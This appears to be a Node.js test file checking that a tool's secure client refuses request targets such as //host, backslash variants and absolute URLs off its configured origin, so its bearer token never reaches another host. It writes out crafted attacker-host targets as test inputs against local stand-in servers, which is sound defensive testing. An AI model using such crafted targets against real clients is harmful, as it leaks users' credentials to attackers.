/**
 * Attack: make the secure client send its credential to a host of the attacker's choosing through the request
 * target. client.url names the server the credential is for; a "path" such as //evil/x, /\evil/x or \\evil\x is
 * resolved by WHATWG URL rules to another host, and an absolute URL names one outright. A library caller building
 * the path from input (`/logs/${name}`), or an operator pasting a target into `gatehouse client request`, would hand
 * the token to that host. Expected: a target off client.url's origin is refused before anything is sent.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { validateConfig } from '../../src/config/index.js';
import { createSecureClient } from '../../src/client/index.js';
import { cli } from '../helpers/cli.js';
import { startRecordingUpstream } from '../helpers/gateway.js';

const TOKEN = 'fake-agent-token-0123456789';

test('client: //host, /\\host, \\\\host and absolute URLs off client.url never receive the credential', async (t) => {
  const intended = await startRecordingUpstream();
  t.after(() => intended.close());
  const attacker = await startRecordingUpstream();
  t.after(() => attacker.close());
  const evil = attacker.url.replace(/^http:\/\//, '');
  const cfg = validateConfig({ client: { url: `${intended.url}/api/`, security: { tls: { enabled: false }, auth: { type: 'token', token: TOKEN } } } }, { env: {} }).client;
  const client = createSecureClient(cfg);
  t.after(() => client.close());

  for (const target of [`//${evil}/x`, `/\\${evil}/x`, `\\\\${evil}\\x`, `${attacker.url}/x`, `https://${evil}/x`]) {
    await assert.rejects(client.request(target), { code: 'GH_CONFIG_INVALID' }, `target ${JSON.stringify(target)} was sent`);
  }
  assert.deepEqual(attacker.requests.map((r) => r.headers['authorization']), [], 'the credential reached another host');
  // A path, and an absolute URL on client.url's own origin, still work.
  assert.equal((await client.request('ingest')).status, 200);
  assert.equal((await client.request(`${intended.url}/health`)).status, 200);
  assert.deepEqual(intended.requests.map((r) => [r.url, r.headers['authorization']]), [['/api/ingest', `Bearer ${TOKEN}`], ['/health', `Bearer ${TOKEN}`]]);
});

test('gatehouse client request //host/path with a config naming client.url: exit 2, nothing sent', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'gh-attack-client-target-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const intended = await startRecordingUpstream();
  t.after(() => intended.close());
  const attacker = await startRecordingUpstream();
  t.after(() => attacker.close());
  const config = join(dir, 'agent.yaml');
  writeFileSync(config, ['client:', `  url: ${intended.url}`, '  security:', '    tls:', '      enabled: false', '    auth:', '      type: token', `      token: ${TOKEN}`, ''].join('\n'));
  const r = await cli(['client', 'request', `//${attacker.url.replace(/^http:\/\//, '')}/logs`, '--config', config], { env: { GATEHOUSE_HOME: dir } });
  assert.equal(r.code, 2, r.stderr);
  assert.equal(attacker.requests.length, 0, 'the token was sent to the other host');
  assert.ok(!r.stderr.includes(TOKEN));
});
